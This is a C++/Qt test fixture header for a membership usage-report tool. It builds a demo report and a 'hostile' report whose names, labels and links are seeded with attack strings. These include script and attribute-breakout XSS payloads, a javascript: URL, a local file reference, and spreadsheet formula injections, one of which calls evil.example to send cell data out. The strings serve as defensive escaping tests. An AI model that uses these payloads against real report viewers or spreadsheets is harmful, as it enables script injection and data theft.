#pragma once

// Report fixtures: the demo member at a fixed time, and a member whose data is hostile.
#include "core/Clock.h"
#include "core/DemoItems.h"
#include "core/ItemStore.h"
#include "core/MemberRecord.h"
#include "core/Policy.h"
#include "core/PolicyLoader.h"
#include "core/UsageReport.h"
#include "core/UsageSummary.h"

#include <QTest>

namespace pd::test {

inline QDateTime fixedNow()
{
    return QDateTime(QDate(2026, 11, 29), QTime(9, 0), Qt::UTC);
}

inline Policy bundledPolicy()
{
    const Result<Policy> policy = PolicyLoader::bundled();
    if (!policy)
        qFatal("bundled policy: %s", qPrintable(policy.error().message));
    return policy.value();
}

inline UsageSummary demoSummary(const Clock &clock)
{
    const Result<MemberRecord> record = loadDemoMember();
    if (!record)
        qFatal("demo member: %s", qPrintable(record.error().message));
    return buildUsageSummary(bundledPolicy(), record->member, record->ledger, record->history,
                             SourceInfo{SourceInfo::Kind::Demo, QStringLiteral("demo data"), {}, false}, clock);
}

inline UsageReport demoReport()
{
    const FixedClock clock(fixedNow());
    return buildUsageReport(demoSummary(clock), bundledPolicy(), clock);
}

// Values an attacker could place in a member's data (name, labels, ids) to attack a viewer of
// the report: markup, attribute breakouts, local-file references and spreadsheet formulas.
inline QStringList hostileValues()
{
    return {
        QStringLiteral("<script>alert(1)</script>"),
        QStringLiteral("\"><img src=x onerror=alert(2)>"),
        QStringLiteral("' onmouseover='alert(3)"),
        QStringLiteral("<img src=\"file:///etc/hostname\">"),
        QStringLiteral("=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")"),
        QStringLiteral("+1+2"),
        QStringLiteral("-2+3"),
        QStringLiteral("@SUM(A1:A2)"),
        QStringLiteral("\tcmd"),
        QStringLiteral("line one\nline \"two\", three"),
    };
}

// A server or archive could hand us these: a member record and categories with hostile text.
inline UsageReport hostileReport()
{
    const FixedClock clock(fixedNow());
    const QStringList bad = hostileValues();
    ActivityLedger ledger;
    ledger.add(QStringLiteral("posts"), QDate(2024, 9, 20), 3);
    ledger.add(QStringLiteral("messages"), QDate(2024, 9, 21), 2);
    ledger.add(bad.at(0), QDate(2024, 9, 22), 1); // a category id the policy does not know
    OptOutHistory history;
    history.append({QDateTime(QDate(2024, 10, 2), QTime(8, 15), Qt::UTC), true, bad.at(2), bad.at(7)});
    const MemberInfo member{bad.at(3), bad.at(0) + bad.at(1), QStringLiteral("US")};
    UsageSummary summary = buildUsageSummary(bundledPolicy(), member, ledger, history,
                                             SourceInfo{SourceInfo::Kind::Archive, bad.at(1), {}, true}, clock);
    // Labels as a source might deliver them.
    for (qsizetype i = 0; i < summary.categories.size(); ++i)
        summary.categories[i].label = bad.at(i % bad.size());
    UsageReport report = buildUsageReport(summary, bundledPolicy(), clock);
    // Issue 15: the items appendix carries the export's own text and links.
    auto items = std::make_shared<ItemStore>();
    items->add(u"posts", QDate(2024, 9, 20), bad.at(0), u"javascript:alert(4)", ItemKind::Post);
    items->add(u"posts", QDate(2024, 9, 20), QString(bad.at(1) + u' ' + bad.at(2)), bad.at(1), ItemKind::Post);
    items->add(u"posts", QDate(2024, 9, 20), bad.at(4), u"https://www.linkedin.com/x?a=1&b=\"><script>",
               ItemKind::Post);
    report.itemsAppendix = buildItemsAppendix(ItemList(items, summary));
    return report;
}

// The demo report with its items appendix (issue 15).
inline UsageReport demoReportWithItems()
{
    const FixedClock clock(fixedNow());
    const UsageSummary summary = demoSummary(clock);
    UsageReport report = buildUsageReport(summary, bundledPolicy(), clock);
    Result<MemberRecord> record = loadDemoMember();
    report.itemsAppendix = buildItemsAppendix(ItemList(makeDemoItems(bundledPolicy(), record->ledger), summary));
    return report;
}

} // namespace pd::test
